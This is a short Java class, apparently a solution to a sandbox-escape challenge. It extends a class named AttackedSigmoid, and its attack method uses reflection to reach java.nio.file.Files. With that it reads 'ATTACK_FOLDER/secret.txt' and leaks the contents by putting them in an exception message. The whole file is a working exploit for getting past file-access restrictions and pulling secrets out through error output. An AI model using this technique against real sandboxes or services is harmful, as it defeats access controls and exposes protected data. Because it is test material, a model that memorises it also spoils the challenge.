import java.lang.reflect.InvocationTargetException;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        Class<?> files = Class.forName("java.nio.file.Files");
        Class<?> path = Class.forName("java.nio.file.Path");
        Object secret = path.getMethod("of", String.class, String[].class)
                .invoke(null, "ATTACK_FOLDER/secret.txt", new String[0]);
        try {
            throw new IllegalStateException(
                    (String) files.getMethod("readString", path).invoke(null, secret));
        } catch (InvocationTargetException e) {
            throw (Exception) e.getCause();
        }
    }
}
